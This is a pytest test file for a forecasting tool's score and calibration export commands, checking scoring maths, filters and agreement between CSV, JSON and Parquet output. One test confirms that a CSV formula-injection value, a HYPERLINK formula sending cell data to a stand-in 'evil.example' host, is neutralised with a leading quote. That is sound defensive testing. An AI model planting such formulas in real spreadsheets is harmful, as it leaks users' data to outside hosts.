"""`forecast export scores|calibration`: the engine's numbers, exactly, in every format."""

from __future__ import annotations

import csv
import io
import math

import pytest

from tests.cli_runner import invoke
from tests.export.conftest_data import LN2, build

COLUMNS = [
    "slug", "title", "tags", "forecaster", "outcome", "resolved_at", "n_forecasts", "first_forecast_at",
    "first_probability", "last_forecast_at", "last_probability", "brier_last", "brier_mean", "time_weighted_brier",
    "brier2", "log_score", "baseline", "peer", "relative_brier", "coverage",
]  # fmt: skip


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    path = str(tmp_path_factory.mktemp("scores") / "small.db")
    build(f"sqlite:///{path}")
    return path


@pytest.fixture(scope="module")
def full_csv(db) -> str:
    return export(db).out


def export(db: str, *args: str):
    res = invoke("export", "scores", *args, db=db)
    assert res.code == 0, res.err
    return res


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_columns_and_hand_worked_numbers(full_csv):
    rows = rows_of(full_csv)
    assert list(rows[0]) == COLUMNS
    assert [(r["slug"], r["forecaster"]) for r in rows] == [
        ("q-formula", "'-bob"), ("q-formula", "alice"), ("q-rain", "'-bob"), ("q-rain", "alice"),
    ]  # fmt: skip
    alice = rows[3]
    assert alice["n_forecasts"] == "2" and alice["outcome"] == "1" and alice["resolved_at"] == "2024-01-11T00:00:00Z"
    assert (alice["first_forecast_at"], alice["first_probability"]) == ("2024-01-01T00:00:00Z", "0.6")
    assert (alice["last_forecast_at"], alice["last_probability"]) == ("2024-01-06T00:00:00Z", "0.8")
    # 0.6 stood 5 of 10 days, 0.8 the other 5; outcome YES
    assert float(alice["time_weighted_brier"]) == pytest.approx(0.5 * 0.16 + 0.5 * 0.04, abs=1e-15)
    assert float(alice["brier_mean"]) == pytest.approx(0.1, abs=1e-15)
    assert float(alice["brier_last"]) == pytest.approx(0.04, abs=1e-15)
    assert float(alice["brier2"]) == pytest.approx(0.2, abs=1e-15)
    assert float(alice["log_score"]) == pytest.approx(0.5 * math.log(0.6) + 0.5 * math.log(0.8), abs=1e-15)
    assert float(alice["baseline"]) == pytest.approx(50 * math.log2(1.2) + 50 * math.log2(1.6), abs=1e-12)
    # peer: alone for 2 days (0), then against -bob's 0.3: 3 days with 0.6, 5 days with 0.8
    assert float(alice["peer"]) == pytest.approx(30 * LN2 + 50 * math.log(0.8 / 0.3), abs=1e-12)
    assert float(rows[2]["peer"]) == pytest.approx(-float(alice["peer"]), abs=1e-12)
    assert float(alice["relative_brier"]) == pytest.approx((3 * (0.16 - 0.325) + 5 * (0.04 - 0.265)) / 10, abs=1e-15)
    assert float(alice["coverage"]) == 1.0 and float(rows[2]["coverage"]) == pytest.approx(0.8, abs=1e-15)


def test_full_precision_equals_the_engine(db, full_csv):
    from forecast.services.database import open_database
    from forecast.services.score_tables import score_db

    database = open_database(f"sqlite:///{db}")
    with database.session() as session:
        scores = score_db(session).scores
    database.engine.dispose()
    engine = {(r.key, r.name): r for r in scores.breakdown("question")}
    for r in rows_of(full_csv):
        name = r["forecaster"].removeprefix("'")
        e = engine[(r["slug"], name)]
        for ours, theirs in (("time_weighted_brier", "brier"), ("log_score", "log_score"), ("baseline", "baseline"),
                             ("peer", "peer"), ("coverage", "coverage")):  # fmt: skip
            assert float(r[ours]) == getattr(e, theirs), (ours, r[ours], getattr(e, theirs))  # bit for bit


def test_formula_guard_keeps_numbers_numeric(full_csv):
    text = full_csv
    assert "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" in text
    assert ",'@at;beta," in text and ",'-bob," in text  # text cells that start with - or @ are guarded
    peer = [r["peer"] for r in rows_of(text)]
    assert peer[0].startswith("-207.94") and all(not p.startswith("'") for p in peer)  # numbers are not


def test_by_filters_rows_after_scoring(db, full_csv):
    everyone = {(r["slug"], r["forecaster"]): r for r in rows_of(full_csv)}
    alice = rows_of(export(db, "--by", "alice").out)
    assert [r["forecaster"] for r in alice] == ["alice", "alice"]
    assert alice[1]["peer"] == everyone[("q-rain", "alice")]["peer"]  # still scored against -bob


def test_tag_and_resolution_window(db):
    assert [r["slug"] for r in rows_of(export(db, "--tag", "beta").out)] == ["q-formula", "q-formula"]
    window = rows_of(export(db, "--since", "2024-03-01", "--until", "2024-12-31").out)
    assert {r["slug"] for r in window} == {"q-formula"}
    assert rows_of(export(db, "--until", "2024-01-11").out) == []  # until is exclusive


def test_json_and_parquet_hold_the_same_numbers(db, full_csv, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is the optional parquet extra")
    as_json = export(db, "--format", "json").json()
    export(db, "-o", str(tmp_path / "s.parquet"))
    as_parquet = pq.read_table(tmp_path / "s.parquet").to_pylist()
    as_csv = rows_of(full_csv)
    assert [r["forecaster"] for r in as_json] == ["-bob", "alice", "-bob", "alice"]  # no guard outside CSV
    for j, p, c in zip(as_json, as_parquet, as_csv, strict=True):
        assert j["peer"] == p["peer"] == float(c["peer"])
        assert j["relative_brier"] == p["relative_brier"] == float(c["relative_brier"])
        assert p["resolved_at"].isoformat().replace("+00:00", "Z") == j["resolved_at"] == c["resolved_at"]
        assert j["tags"] == p["tags"]


def test_calibration_export(db):
    res = invoke("export", "calibration", "--format", "json", db=db)
    assert res.code == 0, res.err
    rows = res.json()
    groups = {(r["group"], r["forecaster"]) for r in rows}
    assert ("forecaster", "alice") in groups and ("forecaster", "-bob") in groups and ("pooled", "") in groups
    assert all(sum(1 for r in rows if (r["group"], r["forecaster"]) == g) == 10 for g in groups)
    pooled = [r for r in rows if r["group"] == "pooled" and r["count"]]
    assert sum(r["count"] for r in pooled) == 5  # the five standing forecasts on the two scored questions
    assert all(r["ci_low"] <= r["observed"] <= r["ci_high"] for r in pooled)


def test_bad_options(db):
    res = invoke("export", "scores", "--format", "xlsx", db=db)
    assert res.code == 2 and "--format 'xlsx' is not one of: csv, json, parquet" in res.err
    res = invoke("export", "scores", "--tag", "nope", db=db)
    assert res.code == 1 and res.err == "forecast: no tag named 'nope'\n"


def test_same_file_from_every_backend(db_url, full_csv, tmp_path):
    build(db_url)
    res = invoke("export", "scores", db=db_url)
    assert res.code == 0, res.err
    assert res.out == full_csv
    report = invoke("report", "-o", str(tmp_path / "r.html"), db=db_url)
    assert report.code == 0, report.err
